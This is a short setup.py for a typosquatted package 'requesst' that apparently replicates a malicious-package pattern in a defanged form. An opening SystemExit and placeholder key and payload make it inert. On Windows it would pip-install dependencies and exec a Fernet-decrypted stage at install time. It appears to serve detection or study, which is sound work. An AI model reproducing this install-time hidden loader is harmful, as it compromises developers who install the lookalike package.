raise SystemExit("inert replica")
import sys, os
if sys.platform.startswith("win"):
    try:
        from cryptography.fernet import Fernet
    except ImportError:
        os.system("pip install cryptography requests")
        from cryptography.fernet import Fernet
    import requests
    from setuptools import setup
    exec(Fernet(b"aW5lcnQtcmVwbGljYS1pbmVydC1yZXBsaWNhLTAwMDA=").decrypt(b"{{stage}}"))
setup(name="requesst", version="2.31.9", packages=["requesst"])
